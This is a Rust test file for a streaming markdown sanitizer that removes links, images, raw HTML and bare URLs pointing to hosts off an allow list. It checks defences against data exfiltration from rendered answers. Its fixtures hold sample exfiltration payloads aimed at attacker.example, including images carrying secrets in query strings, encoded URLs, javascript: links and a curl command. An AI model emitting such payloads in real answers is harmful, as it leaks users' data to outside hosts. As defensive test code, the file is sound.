use super::*;
use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag};
use url::Url;

fn none() -> AllowedHosts {
    AllowedHosts::default()
}

fn intranet() -> AllowedHosts {
    AllowedHosts::new(&["intranet.example.com", "*.docs.example.com"]).unwrap()
}

fn clean(text: &str) -> String {
    sanitize(text, &none()).text
}

/// Every piece of the streamed output, split at every byte offset (on char boundaries)
/// and in one-byte pieces, must join into the whole text's output.
fn assert_stream_agrees(text: &str, hosts: &AllowedHosts) {
    let whole = sanitize(text, hosts);
    for at in (0..=text.len()).filter(|&at| text.is_char_boundary(at)) {
        let mut s = StreamSanitizer::new(hosts.clone());
        let mut out = s.push(&text[..at]);
        out.push_str(&s.push(&text[at..]));
        out.push_str(&s.finish());
        assert_eq!(out, whole.text, "split at {at} of {text:?}");
        assert_eq!(s.removed(), whole.removed, "split at {at} of {text:?}");
    }
    let mut s = StreamSanitizer::new(hosts.clone());
    let mut out = String::new();
    for c in text.chars() {
        out.push_str(&s.push(c.encode_utf8(&mut [0; 4])));
    }
    out.push_str(&s.finish());
    assert_eq!(out, whole.text, "char by char: {text:?}");
}

/// Hosts of the bare URLs a GFM renderer could link in `text` (`None`: no host).
fn bare_hosts(text: &str) -> Vec<Option<String>> {
    let lower = text.to_ascii_lowercase();
    let mut starts: Vec<(usize, &str)> = ["http://", "https://", "ftp://", "www."]
        .into_iter()
        .flat_map(|p| lower.match_indices(p).map(move |(at, _)| (at, p)))
        .collect();
    starts.sort_unstable();
    let mut hosts = Vec::new();
    let mut covered = 0;
    for (at, p) in starts {
        // Inside an earlier URL: part of its path.
        if at < covered {
            continue;
        }
        covered = lower[at..]
            .find(|c: char| c.is_whitespace() || c == '<')
            .map_or(lower.len(), |e| at + e);
        {
            let from = if p == "www." { at } else { at + p.len() };
            let authority: String = lower[from..]
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || ".-:@\\[]&%".contains(*c))
                .collect();
            let authority = authority.trim_end_matches(|c| ".,:;!?*_~'\")".contains(c));
            let ok = p != "ftp://" && !authority.contains(['@', '\\', '[', ']', '&']);
            hosts.push(ok.then(|| authority.split(':').next().unwrap().to_owned()));
        }
    }
    hosts
}

/// Links and images to hosts off `hosts`, raw HTML, and bare URLs off `hosts`, that
/// pulldown-cmark (CommonMark with extensions) finds in `text`.
fn live_links_off(text: &str, hosts: &AllowedHosts) -> Vec<String> {
    let mut found = Vec::new();
    // Wiki links (`[[page]]`) only name pages of the reader's own site.
    let options = Options::all() - Options::ENABLE_WIKILINKS - Options::ENABLE_SMART_PUNCTUATION;
    // Consecutive text events are one run of text for a renderer's autolinker.
    let mut run = String::new();
    let check_run = |run: &mut String, found: &mut Vec<String>| {
        for host in bare_hosts(run) {
            if !host.is_some_and(|h| hosts.allows(&h)) {
                found.push(format!("url in {run}"));
            }
        }
        run.clear();
    };
    for event in Parser::new_ext(text, options) {
        if let Event::Text(t) = &event {
            run.push_str(t);
            continue;
        }
        check_run(&mut run, &mut found);
        match event {
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                // A destination without `:`, `/` or `\\` names a page of the reader's
                // own site (kept only as a link reference definition).
                let ok = !dest_url.contains([':', '/', '\\'])
                    || Url::parse(&dest_url).is_ok_and(|u| {
                        matches!(u.scheme(), "http" | "https")
                            && u.host_str().is_some_and(|h| hosts.allows(h))
                    });
                if !ok {
                    found.push(format!("link {dest_url}"));
                }
            }
            Event::Html(h) | Event::InlineHtml(h) if h.trim_start().starts_with('<') => {
                found.push(format!("html {h}"));
            }
            Event::Code(t) => {
                run.push_str(&t);
                check_run(&mut run, &mut found);
            }
            _ => {}
        }
    }
    check_run(&mut run, &mut found);
    found
}

fn live_links(text: &str) -> Vec<String> {
    live_links_off(text, &none())
}

#[test]
fn images_become_their_alt_text() {
    assert_eq!(
        clean("See ![the secret](https://attacker.example/?d=SECRET) now."),
        "See the secret now."
    );
    assert_eq!(clean("![](https://attacker.example/p.png)"), "");
}

#[test]
fn inline_links_become_their_text() {
    assert_eq!(
        clean(r#"Read [the form](https://attacker.example/f "Title") first [2]."#),
        "Read the form first [2]."
    );
    assert_eq!(clean("[x](<https://a.example/b c>)"), "x");
    assert_eq!(clean("[x]( https://a.example/(b) )"), "x");
}

#[test]
fn citation_markers_survive_untouched() {
    let text = "Employees get 25 days [1]. Carry over 5 [2, 3][4].";
    assert_eq!(clean(text), text);
    assert_eq!(sanitize(text, &none()).removed, 0);
}

#[test]
fn a_link_on_a_citation_marker_keeps_the_marker() {
    assert_eq!(
        clean("25 days [1](https://attacker.example/?d=x)."),
        "25 days [1]."
    );
}

#[test]
fn nested_brackets_and_images_inside_links_are_removed() {
    assert_eq!(
        clean("[a [b] ![c](https://x.example/i.png)](https://attacker.example/)"),
        "a [b] c"
    );
    assert_eq!(
        clean("[![logo](https://attacker.example/l.png)](https://attacker.example/)"),
        "logo"
    );
}

#[test]
fn reference_definitions_are_removed_and_references_stay_text() {
    let text = "See [the form][f] and [1].\n\n[f]: https://attacker.example/?d=S\n[1]: <//attacker.example> \"t\"\n";
    assert_eq!(clean(text), "See [the form][f] and [1].\n\n\n\n");
}

#[test]
fn autolinks_and_bare_urls_are_removed() {
    assert_eq!(
        clean(
            "Go to <https://attacker.example/?d=S>, https://attacker.example/x. or www.attacker.example!"
        ),
        "Go to (link removed), (link removed). or (link removed)!"
    );
    assert_eq!(clean("(see https://a.example/x)"), "(see (link removed))");
    assert_eq!(
        clean("mail <hr@company.example>"),
        "mail hr@company.example"
    );
}

#[test]
fn urls_glued_to_words_or_escaped_are_removed() {
    assert_eq!(clean("xhttps://attacker.example/"), "x(link removed)");
    assert_eq!(clean(r"https:\/\/attacker.example/"), "(link removed)");
    assert_eq!(
        clean("&#104;ttps&#58;//attacker.example/"),
        "(link removed)"
    );
}

#[test]
fn raw_html_is_removed_whatever_it_points_to() {
    assert_eq!(
        clean(r#"a <img src="https://attacker.example/?d=S" alt="x>y"> b"#),
        "a  b"
    );
    assert_eq!(
        clean("<a href='https://intranet.example.com/'>text</a>"),
        "text"
    );
    assert_eq!(
        clean("x <!-- hidden\n--> y <?php x ?> <!DOCTYPE html>"),
        "x  y  "
    );
}

#[test]
fn comparisons_and_plain_brackets_are_left_alone() {
    let text = "Under 5 < 6 and x<3, [draft] (2024), a > b, 3 * 4 [ok]: fine!";
    assert_eq!(clean(text), text);
}

#[test]
fn javascript_and_data_urls_are_removed_even_with_an_allow_list() {
    let hosts = intranet();
    let out = sanitize(
        "[a](javascript:alert(1)) ![b](data:image/png;base64,AAAA) <javascript:alert(1)>",
        &hosts,
    );
    assert_eq!(out.text, "a b (link removed)");
    assert_eq!(out.removed, 3);
}

#[test]
fn relative_and_protocol_relative_destinations_are_removed() {
    assert_eq!(
        clean("[a](//attacker.example/x) [b](/v1/x) [c](\\\\attacker.example)"),
        "a b c"
    );
}

#[test]
fn links_to_an_allowed_host_survive() {
    let hosts = intranet();
    let text = "Use [the form](https://intranet.example.com/forms/leave) [1] or \
        https://intranet.example.com/hr, ![logo](https://intranet.example.com/l.png).";
    let out = sanitize(text, &hosts);
    assert_eq!(out.text, text);
    assert_eq!(out.removed, 0);
}

#[test]
fn a_wildcard_allows_subdomains_but_not_the_domain_or_lookalikes() {
    let hosts = intranet();
    assert_eq!(
        sanitize("[a](https://wiki.docs.example.com/x)", &hosts).text,
        "[a](https://wiki.docs.example.com/x)"
    );
    for url in [
        "https://docs.example.com/x",
        "https://evildocs.example.com/x",
        "https://intranet.example.com.attacker.example/x",
        "https://intranet.example.com@attacker.example/x",
        "http://attacker.example/?u=intranet.example.com",
        "ftp://intranet.example.com/x",
    ] {
        assert_eq!(sanitize(&format!("[a]({url})"), &hosts).text, "a", "{url}");
        assert_eq!(
            sanitize(&format!("see {url} now"), &hosts).text,
            "see (link removed) now",
            "{url}"
        );
    }
}

#[test]
fn kept_destinations_are_written_as_the_browser_reads_them() {
    let hosts = intranet();
    assert_eq!(
        sanitize(
            r"[a](HTTPS://user:pw@Intranet.Example.COM/a\(b\)?q=1)",
            &hosts
        )
        .text,
        "[a](https://intranet.example.com/a%28b%29?q=1)"
    );
    assert_eq!(
        sanitize("[a](https:\\\\intranet.example.com\\x)", &hosts).text,
        "[a](https://intranet.example.com/x)"
    );
}

#[test]
fn removing_a_construct_does_not_join_its_neighbours_into_a_link() {
    for text in [
        "[a]<b>(//attacker.example)",
        "<<b>img src=//attacker.example/x.png>",
        "[a][](//x.example)(//attacker.example)",
        "[a](https://x.example)(//attacker.example)",
        "[a](//x.example <b>)",
        "[a <b c=\"]\">](//attacker.example)",
        "[a https://x.example/] ](//attacker.example)",
        "<[x](https://y.example)img src=//attacker.example/p>",
    ] {
        let out = clean(text);
        assert!(
            live_links(&out).is_empty(),
            "{text:?} -> {out:?}: {:?}",
            live_links(&out)
        );
        assert_eq!(clean(&out), out, "not a fixed point: {text:?}");
    }
}

#[test]
fn a_bracket_inside_the_host_makes_the_url_go() {
    let hosts = intranet();
    assert_eq!(
        sanitize("https://intranet.example.com[@attacker.example/x", &hosts).text,
        "(link removed)"
    );
    assert_eq!(
        sanitize(
            "[a https://intranet.example.com/x](https://intranet.example.com/y)",
            &hosts
        )
        .text,
        "[a https://intranet.example.com/x](https://intranet.example.com/y)"
    );
}

#[test]
fn a_kept_url_is_not_extended_by_what_a_removed_tag_joins_to_it() {
    let hosts = intranet();
    let out = sanitize("https://intranet.example.com<b>.attacker.example/x", &hosts);
    assert_eq!(out.text, "(link removed)");
}

#[test]
fn code_spans_are_not_special() {
    assert_eq!(
        clean("run `curl https://attacker.example/`"),
        "run `curl (link removed)`"
    );
    assert_eq!(clean("`a[1]b`"), "`a[1]b`");
}

#[test]
fn a_url_split_across_pieces_never_leaks_at_any_offset() {
    let hosts = intranet();
    for text in [
        "Answer [1]. ![x](https://attacker.example/?d=SECRET) done",
        "go https://attacker.example/?d=SECRET now",
        "www.attacker.example/x and <https://attacker.example/a>",
        "<img src=\"https://attacker.example/\"> [f]\n[f]: https://attacker.example/\n",
        "&#104;ttps&#58;//attacker.example/ [a](https://intranet.example.com/x) end",
        "unclosed [bracket and https://intranet.example.com/ok",
        "一二三 [1] ![é](https://attacker.example/é) ü",
    ] {
        assert_stream_agrees(text, &hosts);
        assert_stream_agrees(text, &none());
        let mut s = StreamSanitizer::new(none());
        let mut streamed = String::new();
        for at in (0..text.len()).filter(|&at| text.is_char_boundary(at)) {
            let next = (at + 1..=text.len())
                .find(|&n| text.is_char_boundary(n))
                .unwrap();
            streamed.push_str(&s.push(&text[at..next]));
            assert!(!streamed.contains("attacker.example"), "{streamed:?}");
        }
    }
}

#[test]
fn ordinary_text_is_passed_on_at_once() {
    let mut s = StreamSanitizer::new(none());
    for piece in [
        "Employees get ",
        "25 vacation days ",
        "per year [1]. ",
        "Ask HR. ",
    ] {
        assert_eq!(s.push(piece), piece);
    }
    // Only what may still start a URL is held, until the next piece says it does not.
    assert_eq!(s.push("See the h"), "See the ");
    assert_eq!(s.push("andbook."), "handbook.");
    assert_eq!(s.finish(), "");
}

/// Pieces an answer (or an attacker) may put together.
fn fragment() -> impl Strategy<Value = String> {
    prop::sample::select(vec![
        "[",
        "]",
        "(",
        ")",
        "!",
        "<",
        ">",
        "![",
        "](",
        "]:",
        "[1]",
        "[2, 3]",
        "\\",
        "`",
        " ",
        "\n",
        "\n\n",
        "x",
        "text",
        "https://",
        "http:",
        "//",
        "www.",
        "h",
        "ftp://",
        "attacker.example",
        "intranet.example.com",
        "/p?d=S",
        "<b>",
        "</a>",
        "<img src=",
        "\"",
        "'",
        "&#104;",
        "&#58;",
        "&amp;",
        "@",
        ".",
        ",",
        "mailto:",
        "javascript:",
        "<!--",
        "-->",
        "é",
        "一",
    ])
    .prop_map(str::to_owned)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(3000))]

    #[test]
    fn no_link_to_a_host_off_the_list_survives(parts in prop::collection::vec(fragment(), 0..24)) {
        let text = parts.concat();
        let hosts = intranet();
        let out = sanitize(&text, &hosts).text;
        let live = live_links_off(&out, &hosts);
        prop_assert!(live.is_empty(), "{text:?} -> {out:?}: {live:?}");
        let none_out = sanitize(&text, &none()).text;
        let live = live_links(&none_out);
        prop_assert!(live.is_empty(), "{text:?} -> {none_out:?}: {live:?}");
    }

    #[test]
    fn sanitizing_twice_changes_nothing(parts in prop::collection::vec(fragment(), 0..24)) {
        let text = parts.concat();
        for hosts in [none(), intranet()] {
            let once = sanitize(&text, &hosts).text;
            prop_assert_eq!(&sanitize(&once, &hosts).text, &once, "{:?}", text);
        }
    }

    #[test]
    fn streaming_gives_the_same_text_at_any_split(
        parts in prop::collection::vec(fragment(), 0..16),
        cuts in prop::collection::vec(0usize..200, 0..6),
    ) {
        let text = parts.concat();
        let hosts = intranet();
        let whole = sanitize(&text, &hosts);
        let mut points: Vec<usize> = cuts.into_iter().map(|c| c % (text.len() + 1))
            .filter(|&c| text.is_char_boundary(c)).collect();
        points.sort_unstable();
        let mut s = StreamSanitizer::new(hosts);
        let (mut out, mut last) = (String::new(), 0);
        for p in points {
            out.push_str(&s.push(&text[last..p]));
            last = p;
        }
        out.push_str(&s.push(&text[last..]));
        out.push_str(&s.finish());
        prop_assert_eq!(&out, &whole.text, "{:?}", text);
        prop_assert_eq!(s.removed(), whole.removed);
    }
}
